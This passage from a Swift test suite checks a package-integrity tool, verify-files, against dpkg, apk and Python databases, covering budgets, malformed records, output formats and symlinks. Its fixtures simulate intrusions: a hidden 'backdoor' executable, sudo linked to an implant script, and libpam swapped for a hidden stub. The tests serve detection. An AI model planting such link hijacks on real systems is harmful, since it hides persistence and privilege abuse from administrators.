        #expect(try runProcess(provenantBinary, ["verify-files", root.path, "--format", "xml"]).code == 2)
        #expect(try runProcess(provenantBinary, ["verify-files", root.path, "--fail-on", "severe"]).code == 2)
    }

    @Test func formatsAndExitCodes() throws {
        let root = try TestRoot.make("verify-formats")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: pkg\nStatus: install ok installed\nVersion: 1\nConffiles:\n /etc/pkg.conf \(try TestRoot.md5("a\n"))\n")
        let token = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
        try TestRoot.write(root, "var/lib/dpkg/info/pkg.list", "/etc/pkg.conf\n/usr/bin/pkg\n/usr/share/doc/pkg/\(token)\n")
        try TestRoot.write(root, "var/lib/dpkg/info/pkg.md5sums", "\(try TestRoot.md5("bin\n"))  usr/bin/pkg\n")
        try TestRoot.write(root, "usr/bin/pkg", "bin\n", mode: 0o755)
        try TestRoot.write(root, "etc/pkg.conf", "b\n")
        #expect(try runProcess(provenantBinary, ["verify-files", root.path, "--fail-on", "medium"]).code == 1, "a missing file is medium")
        #expect(try runProcess(provenantBinary, ["verify-files", root.path, "--fail-on", "high"]).code == 0)
        let table = try runProcess(provenantBinary, ["verify-files", root.path])
        #expect(table.out.hasPrefix("missing     "), "\(table.out)")
        #expect(table.out.contains("\n??5?????? c /etc/pkg.conf\n"), "\(table.out)")
        #expect(!table.out.contains(token), "a path is redacted like any input")
        #expect(table.out.contains("verify-files: 2 files checked in 1 package (dpkg 1)"), "\(table.out)")
        let sarif = try runProcess(provenantBinary, ["verify-files", root.path, "--format", "sarif"])
        let doc = try #require(try JSONSerialization.jsonObject(with: Data(sarif.out.utf8)) as? [String: Any])
        let results = ((doc["runs"] as? [[String: Any]])?.first?["results"] as? [[String: Any]]) ?? []
        #expect(results.compactMap { $0["ruleId"] as? String } == ["files:missing", "files:conffile-modified"], "\(sarif.out)")
        #expect(!sarif.out.contains(token))
        if let out = ProcessInfo.processInfo.environment["PROVENANT_SBOM_OUT"] {
            try? FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: true)
            try sarif.out.write(toFile: out + "/verify-files.sarif", atomically: true, encoding: .utf8)
        }
        let file = root.appendingPathComponent("report.json").path
        #expect(try runProcess(provenantBinary, ["verify-files", root.path, "--format", "json", "-o", file]).code == 0)
        let json = try String(contentsOfFile: file, encoding: .utf8)
        #expect(json.contains("\"rule\": \"files:conffile-modified\"") && !json.contains(token))
    }
}

/// Found by review: the program walk passed over `.git` directories (a source tree's rule) and still
/// said "all checked"; a program hidden in `usr/bin/.git` is unowned like any other.
@Suite struct VerifyFilesGitDirectoryTests {
    @Test func aProgramUnderAGitDirectoryIsUnowned() throws {
        let dir = try scratchDirectory("vf-git")
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        try fm.createDirectory(at: dir.appendingPathComponent("usr/bin/.git"), withIntermediateDirectories: true)
        try fm.createDirectory(at: dir.appendingPathComponent("var/lib/dpkg"), withIntermediateDirectories: true)
        try Data().write(to: dir.appendingPathComponent("var/lib/dpkg/status"))
        try fm.copyItem(atPath: "/bin/true", toPath: dir.appendingPathComponent("usr/bin/.git/backdoor").path)
        let r = try runProcess(provenantBinary, ["verify-files", dir.path])
        #expect(r.out.contains("/usr/bin/.git/backdoor [executable]"), "\(r.out)")
    }
}

/// Found by review: a program whose name is not UTF-8, or a `lib…` directory whose name is not, was
/// passed over: the first as "cannot stat", the second in silence. Both are NOT CHECKED by name, and
/// so fail --fail-on.
@Suite struct VerifyFilesNonUTF8NameTests {
    @Test func namesThatAreNotUTF8AreNotChecked() throws {
        let dir = try scratchDirectory("vf-utf8")
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        try fm.createDirectory(at: dir.appendingPathComponent("usr/bin"), withIntermediateDirectories: true)
        try fm.createDirectory(at: dir.appendingPathComponent("var/lib/dpkg"), withIntermediateDirectories: true)
        try Data().write(to: dir.appendingPathComponent("var/lib/dpkg/status"))
        // Created through the system call, since a Swift String cannot hold the bytes.
        func create(_ parts: [UInt8], directory: Bool) throws {
            let path = Array(dir.path.utf8) + parts + [0]
            let ok = path.withUnsafeBufferPointer { p in
                p.withMemoryRebound(to: CChar.self) { c in
                    directory ? mkdir(c.baseAddress!, 0o755) == 0 : { let fd = open(c.baseAddress!, O_CREAT | O_WRONLY, 0o755); defer { close(fd) }; return fd >= 0 }()
                }
            }
            try #require(ok)
        }
        try create(Array("/usr/bin/ev".utf8) + [0xff] + Array("il".utf8), directory: false)
        try create(Array("/lib".utf8) + [0xfe], directory: true)
        let r = try VerifyRun.run(dir.path)
        #expect(r.notChecked.contains { $0.contains("/usr/bin/ev\u{FFFD}il") && $0.contains("not valid UTF-8") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.contains("/lib\u{FFFD}") && $0.contains("not valid UTF-8") }, "\(r.notChecked)")
        let failing = try runProcess(provenantBinary, ["verify-files", dir.path, "--fail-on", "high"])
        #expect(failing.code == 1)
    }
}

/// Found by review: dpkg's lists were read up to 1 GiB each with no total, and every path planned, so
/// lists of 100 MB of short lines took 4.8 GB. The databases now have a byte budget and the lists a
/// path budget; what does not fit is NOT CHECKED, by name.
@Suite struct VerifyFilesDatabaseBudgetTests {
    static func root() throws -> URL {
        let root = try TestRoot.make("verify-budget")
        try TestRoot.write(root, "var/lib/dpkg/status", """
            Package: small
            Status: install ok installed
            Version: 1

            Package: big
            Status: install ok installed
            Version: 1

            """)
        try TestRoot.write(root, "etc/small.conf", "x")
        try TestRoot.write(root, "var/lib/dpkg/info/small.list", "/etc\n/etc/small.conf\n")
        try TestRoot.write(root, "var/lib/dpkg/info/small.md5sums", "\(try TestRoot.md5("x"))  etc/small.conf\n")
        try TestRoot.write(root, "var/lib/dpkg/info/big.list", (0..<5000).map { "/opt/big/\($0)" }.joined(separator: "\n") + "\n")
        return root
    }

    @Test func pathsBeyondTheBudgetAreNotChecked() throws {
        let root = try Self.root()
        defer { try? FileManager.default.removeItem(at: root) }
        let open = try VerifyFiles(root: root.path, maxPaths: 4000).run()
        #expect(open.notChecked.contains { $0.location.path.hasSuffix("big.list") && $0.message.contains("more than 4000 paths") }, "\(open.notChecked)")
        #expect(!open.notChecked.contains { $0.location.path.hasSuffix("small.list") })
        // Within the budget: the 5,000 missing paths are found.
        let whole = try VerifyFiles(root: root.path).run()
        #expect(whole.findings.filter { $0.path.hasPrefix("/opt/big/") }.count == 5000)
        #expect(whole.notChecked.isEmpty, "\(whole.notChecked)")
    }

    /// Found by review: apk's database and Python's RECORDs had no path budget (a 16 MiB RECORD of
    /// short rows took 1.1 GB), and a dpkg list was parsed whole before its paths were counted. One
    /// line budget now covers all three and is charged before a database is parsed.
    @Test func theLineBudgetIsSharedByDpkgApkAndRecords() throws {
        let root = try Self.root()
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "lib/apk/db/installed", "P:musl\nV:1\nF:opt/apk\n" + (0..<3000).map { "R:\($0)\n" }.joined())
        try TestRoot.write(root, "usr/lib/python3/site-packages/evil-1.dist-info/RECORD", (0..<3000).map { "x/\($0),sha256=\(String(repeating: "A", count: 43)),1\n" }.joined())
        // dpkg's lists (2 + 5,000 lines) fit in 6,000; apk's 3,003 lines then do not, nor the RECORD's 3,000.
        let r = try VerifyFiles(root: root.path, maxPaths: 6000).run()
        #expect(!r.notChecked.contains { $0.location.path.hasSuffix(".list") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.location.path == "/lib/apk/db/installed" && $0.message.contains("more than 6000 paths") }, "\(r.notChecked)")
        #expect(r.notChecked.contains { $0.location.path.hasSuffix("evil-1.dist-info/RECORD") && $0.message.contains("more than 6000 paths") }, "\(r.notChecked)")
        #expect(!r.findings.contains { $0.path.hasPrefix("/opt/apk/") || $0.path.hasPrefix("/usr/lib/python3/site-packages/x/") })
        // With room for all, every one of them is planned and found missing.
        let whole = try VerifyFiles(root: root.path, maxPaths: 20_000).run()
        #expect(whole.findings.filter { $0.path.hasPrefix("/opt/apk/") }.count == 3000)
        #expect(whole.findings.filter { $0.path.hasPrefix("/usr/lib/python3/site-packages/x/") }.count == 3000)
    }

    /// Found by review: md5sums lines were not charged, so a 36 MiB md5sums of short lines took 502 MB.
    @Test func md5sumsLinesCountAgainstTheBudget() throws {
        let root = try Self.root()
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/info/big.list", "/opt\n")
        try TestRoot.write(root, "var/lib/dpkg/info/big.md5sums", (0..<5000).map { "\($0)  opt/\($0)\n" }.joined())
        // The lists (2 + 1 lines) and small's md5sums (1) fit in 4,000; big's 5,000 md5sums lines do not.
        let r = try VerifyFiles(root: root.path, maxPaths: 4000).run()
        #expect(r.notChecked.contains { $0.location.path == "/var/lib/dpkg/info/big.md5sums" && $0.message.contains("more than 4000 paths") }, "\(r.notChecked)")
        #expect(r.notChecked.count == 1, "\(r.notChecked)")
        #expect(try VerifyFiles(root: root.path, maxPaths: 6000).run().notChecked.isEmpty)
    }

    @Test func databasesBeyondTheByteBudgetAreNotChecked() throws {
        let root = try Self.root()
        defer { try? FileManager.default.removeItem(at: root) }
        let r = try VerifyFiles(root: root.path, databaseBudget: 20_000).run()
        #expect(r.notChecked.contains { $0.location.path.hasSuffix("big.list") && $0.message.contains("budget") }, "\(r.notChecked)")
    }
}

/// Found by review: a dpkg record whose Status could not be read was taken as not installed, and an
/// apk record without P: but with files was skipped, each with a note only; their files went unchecked
/// and the run said all was checked. Both are NOT CHECKED by file and line, and fail --fail-on.
@Suite struct VerifyFilesMalformedRecordTests {
    @Test func aDpkgRecordWithAnUnreadableStatusIsNotChecked() throws {
        let root = try TestRoot.make("verify-bad-status")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/status", """
            Package: ok
            Status: install ok installed
            Version: 1

            Package: odd
            Status: install ok installed extra
            Version: 1

            Package: gone
            Status: purge ok not-installed

            """)
        try TestRoot.write(root, "usr/bin/odd", "patched", mode: 0o755)
        try TestRoot.write(root, "var/lib/dpkg/info/ok.list", "")
        try TestRoot.write(root, "var/lib/dpkg/info/odd.list", "/usr/bin/odd\n")
        try TestRoot.write(root, "var/lib/dpkg/info/odd.md5sums", "\(try TestRoot.md5("original"))  usr/bin/odd\n")
        let r = try VerifyRun.run(root.path)
        #expect(r.notChecked.contains { $0.hasPrefix("/var/lib/dpkg/status:5:") && $0.contains("'odd'") }, "\(r.notChecked)")
        // Its .list is NOT CHECKED too (a record the parser refused keeps no files it can vouch for); a package
        // really not installed, with no .list, is still passed over.
        #expect(r.notChecked.count == 2 && r.notChecked.contains { $0.contains("info/odd.list") } && !r.notChecked.contains { $0.contains("gone") },
                "\(r.notChecked)")
        #expect(try VerifyRun.run(root.path, ["--fail-on", "critical"]).code == 1)
    }

    /// Found by review: a `Z:` after a second `F:` (with no `R:` under it) replaced the digest of the
    /// previous directory's last file, so a patched file could be recorded as matching its new content.
    /// A `Z:` describes only the `R:` just before it; two that disagree leave the file NOT CHECKED.
    @Test func anApkDigestIsNeverTakenFromAnotherDirectoryOrASecondLine() throws {
        let root = try TestRoot.make("verify-apk-z")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "bin/tool", "patched", mode: 0o755)
        try TestRoot.write(root, "bin/other", "other", mode: 0o755)
        try TestRoot.write(root, "lib/apk/db/installed", """
            P:tool
            V:1
            F:bin
            R:tool
            Z:\(TestRoot.apkHash("original"))
            F:usr/share/tool
            Z:\(TestRoot.apkHash("patched"))
            F:bin
            R:other
            Z:\(TestRoot.apkHash("other"))
            Z:\(TestRoot.apkHash("something else"))

            """)
        let r = try VerifyRun.run(root.path)
        #expect(r.rule("files:modified") == ["/bin/tool"], "the stray Z: under usr/share/tool does not bless the patched file: \(r.findings)")
        #expect(r.notChecked.contains { $0.hasPrefix("/lib/apk/db/installed:9:") && $0.contains("two Z: lines") }, "\(r.notChecked)")
        #expect(!r.findings.contains { $0.path == "/bin/other" }, "\(r.findings)")
    }

    /// Found by review: dpkg's info directory may be 0711 (search, no listing); its files are readable
    /// by everyone. Walking through it needs only search permission, so an unprivileged run checks them
    /// instead of reporting every list NOT CHECKED.
    @Test func aSearchOnlyInfoDirectoryIsReadByAnUnprivilegedRun() throws {
        let root = try TestRoot.make("verify-0711")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "usr/bin/tool", "patched", mode: 0o755)
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: tool\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n")
        try TestRoot.write(root, "var/lib/dpkg/info/tool.list", "/.\n/usr\n/usr/bin\n/usr/bin/tool\n")
        try TestRoot.write(root, "var/lib/dpkg/info/tool.md5sums", "\(Insecure.MD5.hash(data: Data("original".utf8)).map { String(format: "%02x", $0) }.joined())  usr/bin/tool\n")
        for d in ["", "usr", "usr/bin", "var", "var/lib", "var/lib/dpkg"] { chmod(root.appendingPathComponent(d).path, 0o755) }
        chmod(root.appendingPathComponent("var/lib/dpkg/info").path, 0o711)
        let r = try VerifyRun.run(root.path, asNobody: true)
        #expect(r.notChecked.isEmpty, "\(r.notChecked) \(r.err)")
        #expect(r.rule("files:modified") == ["/usr/bin/tool"], "\(r.findings)")
    }

    /// Found by review: hashing had no cap, so a huge or sparse file listed by a package held the run for
    /// as long as reading it took. Over `--max-file-size` (4 GiB by default) a file is NOT CHECKED, at once.
    @Test func aFileOverTheSizeCapIsNotCheckedNotHashed() throws {
        let root = try TestRoot.make("verify-cap-size")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: big\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n")
        try TestRoot.write(root, "var/lib/dpkg/info/big.list", "/.\n/usr\n/usr/lib\n/usr/lib/huge.img\n/usr/lib/two.bin\n")
        try TestRoot.write(root, "var/lib/dpkg/info/big.md5sums", "\(String(repeating: "0", count: 32))  usr/lib/huge.img\n\(String(repeating: "1", count: 32))  usr/lib/two.bin\n")
        try TestRoot.write(root, "usr/lib/huge.img", "")
        let huge = try FileHandle(forWritingTo: root.appendingPathComponent("usr/lib/huge.img"))
        try huge.truncate(atOffset: 64 << 30)   // sparse: 64 GiB that would take minutes to read
        try huge.close()
        try TestRoot.write(root, "usr/lib/two.bin", [UInt8](repeating: 7, count: 2 << 20))
        let started = Date()
        let r = try VerifyRun.run(root.path)
        #expect(Date().timeIntervalSince(started) < 20)
        #expect(r.notChecked.contains { $0.contains("/usr/lib/huge.img") && $0.contains("over the 4 GiB hashed per file") }, "\(r.notChecked)")
        #expect(r.rule("files:modified") == ["/usr/lib/two.bin"], "\(r.findings)")
        let small = try VerifyRun.run(root.path, ["--max-file-size", "1"])
        #expect(small.notChecked.contains { $0.contains("/usr/lib/two.bin") && $0.contains("over the 1 MiB") }, "\(small.notChecked)")
        #expect(small.rule("files:modified").isEmpty, "\(small.findings)")
    }

    @Test func anApkRecordWithFilesButNoNameIsNotChecked() throws {
        let root = try TestRoot.make("verify-apk-noname")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "bin/tool", "patched", mode: 0o755)
        try TestRoot.write(root, "lib/apk/db/installed", """
            P:musl
            V:1

            P:
            V:1
            F:bin
            R:tool
            Z:\(TestRoot.apkHash("original"))

            V:2

            """)
        let r = try VerifyRun.run(root.path)
        #expect(r.notChecked.contains { $0.hasPrefix("/lib/apk/db/installed:4:") && $0.contains("P:") }, "\(r.notChecked)")
        #expect(r.notChecked.count == 1, "a record without files is only a note: \(r.notChecked)")
        #expect(r.diagnostics.contains { $0.hasPrefix("/lib/apk/db/installed:10:") }, "\(r.diagnostics)")
        #expect(try VerifyRun.run(root.path, ["--fail-on", "critical"]).code == 1)
    }
}

/// Found by review: dpkg's diversions and status gave one diagnostic per malformed line (a 1 MiB
/// diversions file of "a" lines gave 174,762 in 24 s). They are now capped as the lists are: the first
/// hundred of a kind by line, then one for the rest.
@Suite struct VerifyFilesDiagnosticCapTests {
    @Test func diversionsAndStatusLinesAreCapped() throws {
        let root = try TestRoot.make("verify-cap")
        defer { try? FileManager.default.removeItem(at: root) }
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: a\nStatus: install ok installed\nVersion: 1\nConffiles:\n"
                           + String(repeating: " x\n", count: 3000) + "\n" + String(repeating: "Version: 1\n\n", count: 300))
        try TestRoot.write(root, "var/lib/dpkg/info/a.list", "")
        try TestRoot.write(root, "var/lib/dpkg/diversions", String(repeating: "a\n", count: 3000))
        let r = try VerifyFiles(root: root.path).run()
        let diversions = r.diagnostics.filter { $0.location.path == "/var/lib/dpkg/diversions" }
        #expect(diversions.count == 101, "\(diversions.count)")
        #expect(diversions.contains { $0.location.line == 301 && $0.message.hasPrefix("900 more lines like the one above") }, "\(diversions.suffix(2))")
        let conffiles = r.diagnostics.filter { $0.message.contains("conffile line of 'a'") }
        #expect(conffiles.count == 101 && conffiles.contains { $0.message.hasPrefix("2900 more lines") && $0.location.line == 105 }, "\(conffiles.suffix(2))")
        let nameless = r.diagnostics.filter { $0.message.contains("without a Package field") }
        #expect(nameless.count == 101 && nameless.contains { $0.message.hasPrefix("200 more lines") }, "\(nameless.suffix(2))")
        #expect(r.notChecked.isEmpty, "\(r.notChecked)")
    }
}

/// The three ways a dpkg file is hashed (in a lane during the walk, in a lane in the largest-first pass
/// from 1 MiB, as one stream from 256 MiB) each find a match and a change.
@Suite struct VerifyFilesLargeFileTests {
    @Test func everySizeClassMatchesAndFindsChanges() throws {
        let root = try TestRoot.make("verify-large")
        defer { try? FileManager.default.removeItem(at: root) }
        let sizes = ["small": 3000, "medium": 2 << 20, "huge": (256 << 20) + 5]
        var sums = ""
        for (name, size) in sizes.sorted(by: { $0.key < $1.key }) {
            for variant in ["same", "changed"] {
                let rel = "opt/\(name)-\(variant)"
                try TestRoot.write(root, rel, "")
                // Sparse: zeros but for a marker at the end, so the huge one costs no disk.
                let fd = open(root.appendingPathComponent(rel).path, O_WRONLY)
                try #require(fd >= 0)
                #expect(ftruncate(fd, off_t(size)) == 0)
                _ = pwrite(fd, "end", 3, off_t(size - 3))
                close(fd)
                let sum = try runProcess("md5sum", [root.appendingPathComponent(rel).path]).out.prefix(32)
                sums += "\(sum)  \(rel)\n"
                if variant == "changed" {
                    let fd = open(root.appendingPathComponent(rel).path, O_WRONLY)
                    _ = pwrite(fd, "END", 3, off_t(size - 3))
                    close(fd)
                }
            }
        }
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: blobs\nStatus: install ok installed\nVersion: 1\n\n")
        try TestRoot.write(root, "var/lib/dpkg/info/blobs.list", "/opt\n" + sizes.keys.sorted().flatMap { ["/opt/\($0)-same", "/opt/\($0)-changed"] }.joined(separator: "\n") + "\n")
        try TestRoot.write(root, "var/lib/dpkg/info/blobs.md5sums", sums)
        let r = try VerifyFiles(root: root.path).run()
        #expect(Set(r.findings.map(\.path)) == ["/opt/small-changed", "/opt/medium-changed", "/opt/huge-changed"], "\(r.findings)")
        #expect(r.notChecked.isEmpty, "\(r.notChecked)")
    }
}

/// Found by helper-142: a link in a bin or lib directory to a program outside them ran a file nothing
/// walked: `/usr/bin/sudo -> /opt/implant`, or a claimed `libpam.so.0` turned to `/var/tmp/.x.so`
/// (dpkg records no link targets), and verify-files said all checked. Such a link is unowned; one into
/// the walked directories, to a sibling, to data, or to nothing stays clean.
@Suite struct VerifyFilesLinksOutTests {
    @Test func linksToProgramsOutsideTheWalkedDirectoriesAreUnowned() throws {
        let root = try TestRoot.make("verify-links-out")
        defer { try? FileManager.default.removeItem(at: root) }
        let lib = "usr/lib/x86_64-linux-gnu"
        try TestRoot.write(root, "usr/bin/hello", "#!/bin/sh\necho hi\n", mode: 0o755)
        try TestRoot.write(root, "\(lib)/libpam.so.0.85.1", "not really ELF\n")
        try TestRoot.write(root, "var/lib/dpkg/status", "Package: hello\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n\n")
        try TestRoot.write(root, "var/lib/dpkg/info/hello.list", "/.\n/usr\n/usr/bin\n/usr/bin/hello\n/\(lib)/libpam.so.0.85.1\n/\(lib)/libpam.so.0\n")
        try TestRoot.write(root, "var/lib/dpkg/info/hello.md5sums",
                           "\(try TestRoot.md5("#!/bin/sh\necho hi\n"))  usr/bin/hello\n\(try TestRoot.md5("not really ELF\n"))  \(lib)/libpam.so.0.85.1\n")
        try TestRoot.write(root, "opt/implant", "#!/bin/sh\necho pwned\n", mode: 0o755)
        try TestRoot.write(root, "var/tmp/blob", "not executable\n")
        try TestRoot.write(root, "etc/environment", "A=1\n")
        var elf = [UInt8](repeating: 0, count: 64)
        elf[0] = 0x7f; elf[1] = 0x45; elf[2] = 0x4c; elf[3] = 0x46; elf[5] = 1; elf[16] = 3
        try TestRoot.write(root, "var/tmp/.x", elf)
        for (link, target) in [("usr/bin/sudo", "/opt/implant"), ("\(lib)/libevil.so.1", "../../../var/tmp/blob"),
                               ("\(lib)/libpam.so.0", "/var/tmp/.x"), ("usr/bin/editor", "/etc/alternatives/editor"),
                               ("etc/alternatives/editor", "/usr/bin/hello"), ("usr/lib/environment.conf", "/etc/environment"),
                               ("usr/bin/hi", "hello"), ("usr/bin/gone", "/opt/missing")] {
            try TestRoot.link(root, link, to: target)
        }
        let r = try VerifyRun.run(root.path, ["--fail-on", "low"])
        #expect(r.code == 1 && r.rule("files:unowned") == ["/usr/bin/sudo", "/\(lib)/libevil.so.1", "/\(lib)/libpam.so.0"],
                "\(r.findings.map { "\($0.rule) \($0.path) \($0.note ?? "")" }) \(r.notChecked) \(r.err)")
        #expect(r.findings.contains { $0.path == "/\(lib)/libpam.so.0" && $0.note?.contains("a package claims") == true })
        #expect(r.notChecked.isEmpty, "\(r.notChecked)")
        // A link to a directory out there: its files are not walked, so not checked; a claimed one too,
        // unless a package lists the directory it leads to (helper-143).
        try TestRoot.link(root, "usr/lib/plugins", to: "/opt")
        try TestRoot.write(root, "var/lib/dpkg/info/hello.list", "/.\n/usr\n/usr/bin\n/usr/bin/hello\n/\(lib)/libpam.so.0.85.1\n/\(lib)/libpam.so.0\n/usr/lib/jvm\n/usr/lib/jvm/default-java\n/etc/ssl/certs\n/usr/lib/ssl/certs\n")
        try FileManager.default.createDirectory(at: root.appendingPathComponent("etc/ssl/certs"), withIntermediateDirectories: true)
        try TestRoot.link(root, "usr/lib/ssl/certs", to: "/etc/ssl/certs")
        try TestRoot.link(root, "usr/lib/jvm/default-java", to: "/opt")
        let d = try VerifyRun.run(root.path, ["--fail-on", "low"])
        #expect(d.notChecked.contains { $0.hasPrefix("/usr/lib/plugins:") && $0.contains("not walked") }, "\(d.notChecked)")
        #expect(d.notChecked.contains { $0.hasPrefix("/usr/lib/jvm/default-java:") } && !d.notChecked.contains { $0.hasPrefix("/usr/lib/ssl/certs:") }, "\(d.notChecked)")
    }
}
